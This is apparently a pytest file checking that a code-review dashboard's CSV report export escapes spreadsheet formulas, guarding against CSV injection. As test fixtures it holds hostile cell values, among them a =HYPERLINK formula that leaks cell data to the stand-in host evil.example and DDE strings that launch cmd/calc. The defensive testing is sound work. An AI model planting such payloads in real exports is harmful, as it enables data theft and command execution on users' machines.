"""Report CSV export: text from Gerrit never becomes a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import datetime, timedelta

import pytest
from fastapi.testclient import TestClient

from dashboards.app import create_app
from reviewbot.store import session_scope
from reviewbot.views.report_render import render_csv, spreadsheet_safe
from tests.conftest import make_config
from tests.store_builder import add_account, add_change
from tests.test_report import CHANGES, CLASSES, CONFIG, ROSTER, T, build_report

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(("text", "cell"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1 from the gate", "'+1 from the gate"),
    ("-2 cmd|' /C calc'!A0", "'-2 cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Fix the =HYPERLINK parser", "Fix the =HYPERLINK parser"),  # only the first character
    ("", ""),
    (-1.5, -1.5),  # numbers stay numbers
    (3, 3),
])
def test_formula_starts_get_an_apostrophe(text, cell):
    assert spreadsheet_safe(text) == cell


def test_a_hyperlink_subject_is_text_in_the_report_csv():
    evil = [dataclasses.replace(c, subject=HYPERLINK) if c.number == 101 else c
            for c in CHANGES]
    rows = list(csv.DictReader(io.StringIO(
        render_csv(build_report(evil, ROSTER, CLASSES, CONFIG, T)))))
    row = next(r for r in rows if r["number"] == "101")
    assert row["subject"] == "'" + HYPERLINK
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r"))
               for r in rows for v in r.values())


def test_report_csv_download_neutralises_a_formula_subject(engine, sandbox_config_data):
    when = datetime(2017, 1, 20)
    with session_scope(engine) as s:
        add_account(s, 7, "carol")
        add_change(s, 380001, 7, subject=HYPERLINK, topic="goal-remove-incubated-oslo-code",
                   created=when - timedelta(days=5))
        add_change(s, 380002, 7, subject="@cmd", created=when - timedelta(days=5))
    client = TestClient(create_app(make_config(sandbox_config_data), engine=engine))
    body = client.get("/report.csv", params={"as_of": "2017-01-20"}).text
    rows = {r["number"]: r for r in csv.DictReader(io.StringIO(body))}
    assert rows["380001"]["subject"] == "'" + HYPERLINK
    assert rows["380002"]["subject"] == "'@cmd"
